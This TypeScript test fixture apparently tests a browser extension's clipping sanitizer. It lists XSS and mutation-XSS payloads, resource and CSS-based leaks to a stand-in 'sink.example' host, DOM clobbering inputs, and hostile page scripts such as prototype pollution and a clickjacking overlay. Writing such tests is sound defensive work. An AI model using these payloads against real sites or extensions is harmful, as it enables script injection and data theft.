import type { Input } from './collections.ts';

/** Stands for the origin of the server that logs what is asked for. */
export const SINK = 'https://sink.example';

const RUN = 'alert(1)';

/** Markup for the rows of the threats, ours. `SINK` addresses must never be asked for once a clip is stored. */
const ROWS: Readonly<Record<string, readonly string[]>> = {
  S1: [
    `<script>${RUN}</script>`,
    `<img src=x onerror=${RUN}>`,
    `<svg onload=${RUN}><animate onbegin=${RUN} attributeName=x dur=1s>`,
    `<svg><animate attributeName=href values="javascript:${RUN}"/><a><text y=20>x</text></a></svg>`,
    `<a href="java&#10;script:${RUN}">x</a><a href="&#1;javascript:${RUN}">y</a>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
    `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
    `<details ontoggle=${RUN} open><summary>x</summary>y</details>`,
    `<input autofocus onfocus=${RUN}><select autofocus onfocus=${RUN}></select>`,
    `<p is="x-p" onclick=${RUN} tabindex=0 contenteditable onfocus=${RUN}>x</p>`,
    `<xmp><img src=x onerror=${RUN}></xmp><listing>&lt;img onerror=${RUN} src=x&gt;</listing>`,
    `<template><script>${RUN}</script></template><title><img src=x onerror=${RUN}></title>`,
    `<a href="vbscript:${RUN}">a</a><a href="data:text/html,<script>${RUN}</script>">b</a><a href="blob:x">c</a>`,
    `<pre><code class="language-js onload=${RUN}">&lt;script&gt;${RUN}&lt;/script&gt;</code></pre>`,
    `<ruby>x<rt><img src=x onerror=${RUN}></rt></ruby><table><caption><svg onload=${RUN}></caption><tr><td>y</td></tr></table>`,
  ],
  S2: [
    '<h1>&lt;img src=x onerror=alert(1)&gt;</h1>',
    `<img alt='"><script>${RUN}</script>' width=60 height=60 src="${SINK}/alt.png">`,
    `<time datetime='"><img src=x onerror=${RUN}>'>day</time><abbr title='"><svg onload=${RUN}>'>x</abbr>`,
  ],
  S3: [
    '<p>$&amp; $` $1 %BYLINE% {{title}} ${title} &lt;%= x %&gt; --&gt; ]]&gt;</p>',
    '<p>{{constructor.constructor("alert(1)")()}}</p>',
  ],
  S4: [
    `<img src="${SINK}/img.png" width=1 height=1><img src="${SINK}/wide.png" width=300 height=200>`,
    `<img lowsrc="${SINK}/low" dynsrc="${SINK}/dyn" longdesc="${SINK}/long" usemap="${SINK}/map">`,
    `<video src="${SINK}/v" poster="${SINK}/p" autoplay><track src="${SINK}/t" default></video><audio src="${SINK}/a" autoplay></audio>`,
    `<object data="${SINK}/o"></object><embed src="${SINK}/e"><applet code="${SINK}/ap"></applet>`,
    `<table background="${SINK}/tb"><tr><td background="${SINK}/td">x</td></tr></table><body background="${SINK}/bb">`,
    `<input type=image src="${SINK}/in"><isindex action="${SINK}/is">`,
    `<svg width=60 height=60><image href="${SINK}/si" width=9 height=9 /><use href="${SINK}/su#x"/><feImage href="${SINK}/fe"/></svg>`,
    `<math href="${SINK}/m"><mi xlink:href="${SINK}/x">x</mi></math><blockquote cite="${SINK}/c">q</blockquote>`,
  ],
  S5: [
    `<meta http-equiv="refresh" content="0;url=${SINK}/refresh">`,
    `<base href="${SINK}/base/"><a href="rel">x</a>`,
    `<form action="${SINK}/form"><button formaction="${SINK}/fa">go</button></form>`,
    `<iframe srcdoc="<script>parent.alert(1)</script><img src='${SINK}/sd'>"></iframe><iframe src="${SINK}/if"></iframe>`,
    `<link rel=prefetch href="${SINK}/pf"><link rel=dns-prefetch href="//dns.sink.example"><link rel=preconnect href="//pc.sink.example">`,
    `<meta http-equiv="Content-Security-Policy" content="default-src *; report-uri ${SINK}/csp">`,
  ],
  S6: [
    `<a href="${SINK}/a" ping="${SINK}/ping" target=_top referrerpolicy=unsafe-url download attributionsrc="${SINK}/at">x</a>`,
  ],
  S7: [
    `<style>@import "${SINK}/i.css"; @font-face { font-family: f; src: url(${SINK}/f) } * { font-family: f; background: url(${SINK}/bg) }</style><p>a</p>`,
    `<p style="background-image:url(${SINK}/st);list-style:url(${SINK}/ls);content:url(${SINK}/ct)">b</p>`,
    `<input value="secret"><style>input[value^="s"] { background: url(${SINK}/leak-s) }</style>`,
    `<svg width=60 height=60><style>rect { fill: url(${SINK}/sf#x) }</style><rect style="fill:url(${SINK}/sr#x)" fill="url(${SINK}/sa#x)" width=9 height=9 /></svg>`,
    `<div style="width: expression(alert(1)); behavior: url(${SINK}/htc); -moz-binding: url(${SINK}/xbl)">c</div>`,
  ],
  S8: [
    '<form id=documentElement><input name=attributes><input name=parentNode><input name=children><input name=textContent><p>kept</p></form>',
    '<form name=body><input name=getAttribute><input name=querySelector><input name=nodeType></form><img name=currentScript><a id=cookie name=domain>x</a>',
    '<img name=createElement><form id=DOMParser></form><a id=URL href="javascript:alert(1)"></a><object id=window></object>',
  ],
  S17: [
    `<base href="javascript:alert(1)//"><a href="x">rel</a>`,
    `<a href="https://user:secret@sink.example/x">cred</a>`,
  ],
  S18: [
    '<img src="/redirect-to-extension.png" width=200 height=200><img src="file:///etc/passwd" width=200 height=200>',
  ],
  S19: [
    `<img width=60 height=60 src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(1)</script><image href='${SINK}/svg'/></svg>">`,
    `<svg width=80 height=80 onload=alert(1)><foreignObject width=80 height=80><iframe src="javascript:alert(1)"></iframe></foreignObject><a href="javascript:alert(1)"><rect width=80 height=80 /></a></svg>`,
    `<svg width=80 height=80><style>@import "${SINK}/svg.css"</style><use href="data:image/svg+xml,<svg id='x' onload='alert(1)'/>#x"/><set attributeName=onload to=alert(1) /></svg>`,
    `<img width=60 height=60 src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=">`,
    `<img width=60 height=60 src="data:text/html,<script>alert(1)</script>"><img width=60 height=60 src="data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script>">`,
  ],
  S21: [
    `<img srcset="${SINK}/ss 1x, ${SINK}/ss2 2x" src="${SINK}/s" width=60 height=60>`,
    `<picture><source srcset="${SINK}/pic" media="all"><img alt=x width=60 height=60></picture>`,
    `<link rel=preload as=image imagesrcset="${SINK}/is 1x" imagesizes="100vw">`,
  ],
};

/** Scripts of pages that work against the extension while it reads them; none may reach it, its store or its pages. */
export const PAGE_SCRIPTS: Readonly<Record<string, string>> = {
  S9: `Element.prototype.getBoundingClientRect = () => { throw new Error('mine') }; Array.prototype.map = () => { throw new Error('mine') };
    Object.prototype.html = '<img src=x onerror=alert(1)>'; Object.prototype.srcset = '${SINK}/pp'; String.prototype.replace = () => '<script>alert(1)</script>';
    document.implementation.createHTMLDocument = () => document; window.DOMParser = function () { this.parseFromString = () => document };`,
  S10: `setInterval(() => { for (const at of [document.querySelector('[popover]'), document.documentElement, window]) {
    for (const type of ['pointerdown', 'click']) at?.dispatchEvent(new MouseEvent(type, { bubbles: true, composed: true, clientX: 640, clientY: 880 }));
    for (const key of ['Enter', ' ']) at?.dispatchEvent(new KeyboardEvent('keydown', { key, bubbles: true, composed: true })); } }, 50);`,
  S11: `setInterval(() => document.querySelectorAll('[popover]').forEach((host) => host.remove()), 100);
    for (const type of ['click', 'keydown', 'pointerdown']) window.addEventListener(type, (event) => event.stopImmediatePropagation(), true);`,
  S12: `const glass = document.createElement('div'); glass.style.cssText = 'position:fixed;inset:0;z-index:2147483647;opacity:0.01;background:red';
    document.body.append(glass);`,
  S13: `setInterval(() => { for (const name of ['keep', 'dismiss', 'take']) { const message = { to: 'background', name, request: null };
    window.postMessage(message, '*'); document.dispatchEvent(new CustomEvent('message', { detail: message })); } }, 20);`,
  S14: `try { chrome.runtime.sendMessage({ to: 'background', name: 'keep', request: {} }) } catch {}`,
  S15: `for (const origin of ['EXTENSION']) fetch(origin + '/icons/128.png').then(() => alert('reached'), () => {});`,
  S16: `class Counted extends HTMLElement { constructor() { super(); window.built = (window.built || 0) + 1; if (window.built > 1) alert('built again'); } }
    customElements.define('x-counted', Counted); document.querySelector('article').append(document.createElement('x-counted'));`,
};

/** All inputs of ours, row by row. */
export function ownInputs(): Input[] {
  return Object.entries(ROWS).flatMap(([row, list]) => list.map((html) => ({ from: row, html })));
}
